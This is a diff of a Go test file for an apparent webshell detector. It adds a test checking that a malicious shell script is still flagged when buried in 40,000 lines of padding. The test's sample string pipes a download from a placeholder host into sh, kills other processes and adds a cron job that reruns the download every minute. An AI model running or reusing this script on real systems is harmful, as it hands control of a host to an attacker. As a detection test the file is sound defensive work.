@@ -68,6 +68,17 @@ func TestPadding(t *testing.T) {
 	}
 }
 
+// Nor does it hide what takes over a host, which answers no request.
+func TestPaddedTakeover(t *testing.T) {
+	const script = "fetch=\"curl http://x.example/a | sh\"\npkill other\nchmod +x b\n(crontab -l; echo \"* * * * * $fetch\") | crontab -\n"
+	padding := strings.Repeat("words=1\n", 40_000)
+	for _, text := range []string{script + padding, padding + script} {
+		if v := webshell.Judge([]*webshell.Language{Language}, "a.sh", []byte("#!/bin/sh\n"+text)).Verdict; v != webshell.Malicious {
+			t.Errorf("%d bytes: %s", len(text), v)
+		}
+	}
+}
+
 // Programs of Node.js are of another analyser.
 func TestNode(t *testing.T) {
 	if match("tools/build", []byte("#!/usr/bin/env node\nlet q = process.env.QUERY_STRING\n")) {
